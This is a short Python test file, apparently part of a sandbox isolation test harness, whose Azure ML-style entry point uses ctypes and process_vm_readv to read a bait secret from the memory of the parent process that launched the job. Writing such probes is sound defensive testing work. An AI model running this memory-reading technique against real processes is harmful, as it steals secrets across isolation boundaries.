"""Reads a secret from the memory of the process that ordered the job, without /proc."""

import ctypes

from attack import BAIT, attack, call, told


class Piece(ctypes.Structure):
    """struct iovec."""

    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    content = ctypes.create_string_buffer(BAIT["host_length"])
    ours = Piece(ctypes.addressof(content), BAIT["host_length"])
    theirs = Piece(BAIT["host_address"], BAIT["host_length"])
    call("process_vm_readv", BAIT["host_pid"], ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    return told("the parent's memory", content.raw)
